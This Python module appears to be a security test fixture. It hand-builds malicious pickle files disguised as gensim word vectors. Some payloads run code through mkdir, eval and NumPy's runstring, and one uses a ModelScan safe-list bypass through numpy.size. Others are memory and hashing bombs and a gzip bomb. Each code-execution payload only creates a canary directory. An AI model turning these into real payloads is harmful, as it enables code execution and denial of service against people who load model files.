"""Pickles as gensim writes them, with a program inside."""

from __future__ import annotations

import struct

from attacks.word2vec import squeezed

VECTORS = b"cgensim.models.keyedvectors\nKeyedVectors\n)\x81"


def text(value):
    return b"X" + struct.pack("<L", len(value.encode())) + value.encode()


def mkdir(canary):
    return b"cposix\nmkdir\n" + text(str(canary)) + b"\x85R"


def written(path, program):
    path.write_bytes(b"\x80\x02" + program + b".")


def call(path, canary):
    """A function of the system is called."""
    written(path, mkdir(canary))


def attribute(path, canary):
    """The call stands where an attribute of word vectors does."""
    written(path, VECTORS + b"}" + text("vectors") + mkdir(canary) + b"sb")


def evaluated(path, canary):
    """Text is evaluated."""
    written(path, b"cbuiltins\neval\n" + text(f"__import__('os').mkdir({str(canary)!r})") + b"\x85R")


def by_numpy(path, canary):
    """A function of NumPy's tests that runs its argument: a list of modules to trust would let it pass."""
    code = text(f"import os; os.mkdir({str(canary)!r})")
    written(path, b"cnumpy.testing._private.utils\nrunstring\n" + code + b"}\x86R")


def mutated(path, canary):
    """BUILD changes a function of NumPy's that a scanner's list of safe names allows.

    The trick of ModelScan's issue 330: ``numpy.size`` is given Python's built-in functions as its shape, so that
    calling it with itself and "eval" returns ``eval``. No name of the system's is in the file.
    """
    size = b"cnumpy\nsize\n"
    changed = b"}}" + text("shape") + b"cnumpy\n__builtins__\n" + b"s\x86b"
    code = text(f"__import__('os').mkdir({str(canary)!r})")
    written(path, size + changed + size + text("eval") + b"\x86R" + code + b"\x85R")


def changed(path, canary):
    """BUILD changes a function that is allowed here, as every pickled array needs it."""
    state = b"}" + text("_function") + b"cbuiltins\nhash\n" + b"s"
    written(path, b"cnumpy.core.multiarray\n_reconstruct\nN" + state + b"\x86b")


def copied(path, canary, size=1 << 20, times=1 << 14):
    """A text of 1 MiB becomes bytes again and again: 16 GiB of a file of 1.2 MB."""
    again = b"c_codecs\nencode\nq\1" + text("x" * size) + b"q\0" + text("latin1") + b"q\3" + b"("
    written(path, again + b"h\1h\0h\3\x86R" * times + b"l")


def length(path, canary):
    """A text that claims 2 GiB."""
    written(path, b"X\xff\xff\xff\x7f")


def numbered(path, canary):
    """An entry of the memo with the number 2**31."""
    written(path, b"Nr\xff\xff\xff\x7f")


def doubled(path, canary):
    """A key that is a tuple of twice the same tuple, and so on: 2**60 items to hash."""
    written(path, b"}N" + b"2\x86" * 60 + b"Ns")


def nested(path, canary):
    """A key that is three million tuples within each other: hashing it ends the process."""
    written(path, b"}N" + b"\x85" * 3_000_000 + b"Ns")


def squeezed_pickle(path, canary):
    """A gzip of a text of 2 GiB."""
    return squeezed(path, b"\x80\x02X\0\0\0\x80", filling=b"x")


ATTACKS = {
    "pickle: calls mkdir": ("load", call),
    "pickle: calls mkdir for an attribute": ("load", attribute),
    "pickle: evaluates text": ("load", evaluated),
    "pickle: NumPy's own runstring": ("load", by_numpy),
    "pickle: numpy.size, changed by BUILD, becomes eval (ModelScan 330)": ("load", mutated),
    "pickle: BUILD changes a function that arrays need": ("load", changed),
    "pickle: 16 GiB of copies": ("load", copied),
    "pickle: a text of 2 GiB": ("load", length),
    "pickle: memo entry 2**31": ("load", numbered),
    "pickle: 2**60 items to hash": ("load", doubled),
    "pickle: 3,000,000 tuples within each other": ("load", nested),
    "pickle: a text of 2 GiB, in gzip": ("load", squeezed_pickle),
}
